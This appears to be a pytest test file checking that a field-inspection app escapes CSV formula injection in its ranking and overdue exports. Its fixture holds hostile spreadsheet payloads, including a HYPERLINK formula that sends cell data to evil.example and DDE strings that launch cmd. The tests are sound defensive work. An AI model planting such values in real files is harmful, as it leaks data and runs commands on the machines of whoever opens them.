"""Every CSV the app writes opens in Excel and WPS as text: no formula from a name in a boundary file.

(issue #12, smaller holes: CSV formula injection; the doubled charset of CSV responses.)
"""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime, timedelta
from decimal import Decimal
from unittest import mock

import pytest
from sqlalchemy import select

from fieldcheck import csvcells
from fieldcheck.cli import main
from fieldcheck.extensions import db
from fieldcheck.geography.models import Community, Subdistrict
from fieldcheck.reports.models import Report
from tests.ranking_district import AFTER, build, token_for

HOSTILE = {
    "C001": '=HYPERLINK("http://evil.example/?"&A1,"点我")',
    "C002": "+1+cmd|' /C calc'!A0",
    "C003": "-2+3",
    "C004": "@SUM(1+1)*cmd|' /C calc'!A0",
}
SUBDISTRICT = "\t=1+1"


@pytest.fixture
def hostile(app, client, make_user):
    inspector = make_user("inspector", username="insp", level="district")
    ids = build(app, inspector_id=inspector.id)
    make_user("office", username="office")
    with app.app_context():
        for community in db.session.scalars(select(Community)):
            community.name = HOSTILE[community.code]
        db.session.scalar(select(Subdistrict).where(Subdistrict.code == "SD01")).name = SUBDISTRICT
        db.session.commit()
    return {"office": token_for(client, "office"), "ids": ids}


def test_the_cell_rule():
    assert csvcells.cell("=1+1") == "'=1+1"
    for start in ("+", "-", "@", "\t", "\r"):
        assert csvcells.cell(start + "x") == "'" + start + "x"
    # Numbers stay numbers, negative ones too; ordinary text and empty cells are untouched.
    assert (
        csvcells.cell(Decimal("-1.50")) == "-1.50"
        and csvcells.cell(-3) == "-3"
        and csvcells.cell(-0.5) == "-0.5"
    )
    assert (
        csvcells.cell("王城社区") == "王城社区"
        and csvcells.cell("a=b") == "a=b"
        and csvcells.cell(None) == ""
    )
    assert csvcells.cell("") == ""


def _rows(text: str) -> list[dict]:
    return list(csv.DictReader(io.StringIO(text)))


def test_the_ranking_csv_shows_names_as_text_and_numbers_as_numbers(client, hostile):
    with mock.patch("fieldcheck.ranking.api.utcnow", return_value=AFTER):
        response = client.get("/api/v1/rankings/2026-03.csv", headers=hostile["office"])
    assert response.status_code == 200
    assert response.headers["Content-Type"] == "text/csv; charset=utf-8"  # once, not twice
    rows = {r["社区编码"]: r for r in _rows(response.data.decode("utf-8-sig"))}
    assert {code: r["社区名称"] for code, r in rows.items()} == {
        code: "'" + name for code, name in HOSTILE.items()
    }
    assert rows["C001"]["街道"] == "'" + SUBDISTRICT
    assert rows["C001"]["总分"] == "77.041667"


def test_the_ranking_command_csv_is_guarded_too(app, hostile, tmp_path):
    out = tmp_path / "march.csv"
    result = app.test_cli_runner().invoke(main, ["ranking", "2026-03", "--format", "csv", "-o", str(out)])
    assert result.exit_code == 0, result.output
    rows = _rows(out.read_bytes().decode("utf-8-sig"))
    assert all(r["社区名称"].startswith("'") for r in rows)


def test_the_overdue_csv_is_guarded(app, hostile, tmp_path):
    at = datetime(2026, 3, 25, tzinfo=UTC)
    with app.app_context():
        report = db.session.get(Report, hostile["ids"]["r3"])
        report.due_at = at - timedelta(hours=5)
        db.session.commit()
    out = tmp_path / "overdue.csv"
    result = app.test_cli_runner().invoke(
        main, ["overdue", "--format", "csv", "-o", str(out), "--at", at.isoformat()]
    )
    assert result.exit_code == 0, result.output
    rows = _rows(out.read_bytes().decode("utf-8-sig"))
    row = next(r for r in rows if r["report_id"] == str(hostile["ids"]["r3"]))
    assert row["community_name"] == "'" + HOSTILE["C001"] and row["subdistrict_name"] == "'" + SUBDISTRICT
    assert row["overdue_hours"] == "5.0" and row["community_code"] == "C001"
